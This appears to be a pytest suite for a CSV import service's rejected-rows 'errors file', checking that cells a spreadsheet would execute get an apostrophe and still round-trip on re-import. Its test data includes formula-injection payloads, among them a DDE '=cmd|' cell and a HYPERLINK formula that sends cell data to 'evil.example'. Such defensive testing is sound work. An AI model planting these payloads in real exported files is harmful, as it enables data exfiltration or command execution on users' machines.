"""The file of rejected rows: nothing in it runs, and it may be imported again."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel, ConfigDict

from cqrs.errors import ValidationError
from cqrs.imports.csv.errors_file import errors_csv
from cqrs.imports.csv.formulas import harmless, plain
from cqrs.imports.models import ImportedItem, ProcessingMode, RejectedRow, RowCounts
from tests.unit.importing import Imports


@pytest.fixture
def imports(settings, clients) -> Imports:
    return Imports(settings, clients)


def import_directly(imports: Imports, content: str | bytes, target: str = "places") -> Any:
    imports.upload(content)
    key = imports.make(ProcessingMode.DIRECT, target=target)
    imports.start(key)
    imports.work_off_queue()
    return imports.job(key)


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x",
        "\tx", "\rx", "\nx", " =1+1", "\u3000\uff1d1", "\u200b=1", "\ufeff=1",
        "'=1+1", "-", "+81-3-1234", "\t5",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "a=1", "-1.5", "+2", " -3e5", "1-2", "'", "'a", "a b", "\uff21"]
)
def test_what_it_would_not_run_stays(cell):
    assert harmless(cell) == cell


def test_a_cell_that_begins_behind_a_semicolon_gets_one_too():
    assert harmless("a;=cmd|x!A0;b; @x") == "a;'=cmd|x!A0;b;' @x"


def test_a_formula_behind_a_line_end_is_made_harmless_and_a_blank_line_stays():
    assert harmless("\n=1+1") == "'\n'=1+1"
    assert harmless("b\n=1+1\r\n\r\n @x\n\ty\nc") == "b\n'=1+1\r\n\r\n' @x\n'\ty\nc"


@given(st.text(st.sampled_from("=+-@\uff1d'; \t\n1.ea\u200b"), max_size=8))
def test_what_was_made_harmless_is_what_it_was_again(cell):
    assert plain(harmless(cell)) == cell


def test_header_and_cells_and_reasons_are_harmless():
    rejected = [RejectedRow(1, "=reason", '=1+1,"\n=1+1"," =1",-1.5')]
    text = b"".join(errors_csv(["=HYPERLINK(1)", "\uff0bb", "\nc", "d"], rejected)).decode()

    assert read(text) == [
        ["row", "reason", "'=HYPERLINK(1)", "'\uff0bb", "'\nc", "d"],
        ["1", "'=reason", "'=1+1", "'\n'=1+1", "' =1", "-1.5"],
    ]


@pytest.mark.parametrize(
    ("raw", "cells"),
    [
        ("A,Alpha\r Field,1", ["A", "Alpha\r Field", "1"]),
        ('A,"Al\rpha\r\n",1\rX', ["A", "Al\rpha\r\n", "1\rX"]),
        ("\rA,\ue000,\r", ["\rA", "\ue000", "\r"]),
        ("A,1\nB,2", ["A,1\nB,2"]),
        ('A,"B\r', ['A,"B\r']),
        ("", []),
    ],
)
def test_all_of_a_row_is_in_its_cells(raw, cells):
    (_, line) = read(b"".join(errors_csv(["a"], [RejectedRow(1, "reason", raw)])).decode())

    assert [plain(cell) for cell in line[2:]] == cells


def test_a_row_with_a_carriage_return_can_be_imported_as_the_errors_file_has_it(imports):
    first = import_directly(imports, "code,city,runways\r\nAAA,Alpha\r Field,1\r\n")
    assert first.counts == RowCounts(1, failed=1)

    again = import_directly(imports, imports.errors(first.key))

    assert again.counts == RowCounts(1, 1)
    assert imports.place("AAA").name == "Alpha\r Field"


@pytest.mark.parametrize("is_refused_later", [False, True])
def test_a_row_that_is_cut_says_so(imports, is_refused_later):
    if is_refused_later:
        imports.application.sync_handler("picky", item_type="PLACE")(_refuse)
    code = "AAA" if is_refused_later else "A"
    job = import_directly(imports, f"code,city\n{code},{310_000 * 'N'}-END\n")

    (_, (_, reason, *cells)) = read(imports.errors(job.key))
    assert "Behind 300,000 characters it is cut here" in reason
    assert len(",".join(cells)) == 300_000


def _refuse(_command):
    raise ValidationError("no")


FILE = 'code,city,runways,"=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"\r\n'
FILE += 'A,"+81-3, Tokyo",1,=1+1\r\nBBB,fine,2,\r\nC,\'=2,-1,\r\n'


def test_an_errors_file_is_mended_and_imported_again(imports):
    first = import_directly(imports, FILE)
    assert first.counts == RowCounts(3, 1, failed=2)
    errors = imports.errors(first.key)
    assert read(errors)[1][3] == "'+81-3, Tokyo"

    again = import_directly(imports, errors.replace(",A,", ",AAA,"))

    assert again.counts == RowCounts(2, 1, failed=1)
    assert imports.place("AAA").name == "+81-3, Tokyo"
    header, row = read(imports.errors(again.key))
    assert header[:5] == ["import row", "import reason", "row", "reason", "code"]
    assert row[4:6] == ["C", "''=2"]

    third = import_directly(imports, imports.errors(again.key).replace(",C,", ",CCC,"))

    assert third.counts == RowCounts(1, 1)
    assert imports.place("CCC").name == "'=2"


def test_each_errors_file_of_an_errors_file_has_the_same_columns(imports):
    errors = imports.errors(import_directly(imports, FILE).key)
    headers = []
    for _ in range(3):
        errors = imports.errors(import_directly(imports, errors).key)
        headers.append(read(errors)[0])

    assert headers[0] == headers[1] == headers[2]
    assert len(read(errors)[1]) == len(headers[0])


def test_columns_of_the_files_own_that_are_called_so_are_kept_apart(imports):
    job = import_directly(imports, "code,city,Reason\nA,A,late\n")

    assert read(imports.errors(job.key))[0] == [
        "import row", "import reason", "code", "city", "Reason"
    ]  # fmt: skip


def test_the_state_machine_gives_the_cells_of_an_errors_file_as_they_were(imports):
    imports.upload("\ufeffrow,reason,code,city,'+x\r\n1,bad,AAA,'+81,'@\r\n")
    key = imports.make()
    imports.start(key)
    assert imports.execution_input(key)["columns"] == ["row", "reason", "code", "city", "+x"]
    seen: list[Any] = []
    imports.application.import_strategy("seen")(
        type("Seen", (), {"transform": lambda _self, row: seen.append(dict(row))})
    )
    event = imports.batch(key, [])
    event.input["BatchInput"]["Attributes"]["sk"] = key.sk.replace("places", "seen")
    row = {"\ufeffrow": "1", "reason": "bad", "code": "AAA", "city": "'+81", "'+x": "'@"}
    event.input["Items"] = [{"row": row, "index": 0}]

    imports.services.import_workflow.csv_rows_handler(event)

    assert seen == [{"row": "1", "reason": "bad", "code": "AAA", "city": "+81", "+x": "@"}]


@pytest.mark.parametrize("mode", list(ProcessingMode))
def test_a_cell_of_several_lines_is_given_back_whole(imports, mode):
    row = ["A\nBC", 'first\r\nsecond, "third"\n', "-1"]
    file = io.StringIO(newline="")
    csv.writer(file).writerows([["code", "city", "size"], row])
    imports.upload(file.getvalue())
    key = imports.make(mode)
    imports.start(key)
    if mode is ProcessingMode.DIRECT:
        imports.work_off_queue()
    else:
        imports.import_batch(key, [tuple(row)])
        imports.finalize(key)

    header, back = read(imports.errors(key))

    assert dict(zip(header, back, strict=True))["code"] == row[0]
    assert dict(zip(header, back, strict=True))["city"] == row[1]


class Closed(BaseModel):
    model_config = ConfigDict(extra="forbid")

    code: str

    def to_item(self) -> ImportedItem:
        return ImportedItem("PLACE", self.code)


def test_a_model_that_forbids_other_columns_takes_an_errors_file(imports):
    imports.application.import_strategy("closed")(Closed)

    job = import_directly(imports, "\ufeffrow,reason,code\r\n1,bad,AAA\r\n", "closed")
    other = import_directly(imports, "code,reason\r\nBBB,bad\r\n", "closed")

    assert (job.counts, other.counts) == (RowCounts(1, 1), RowCounts(1, 0, failed=1))
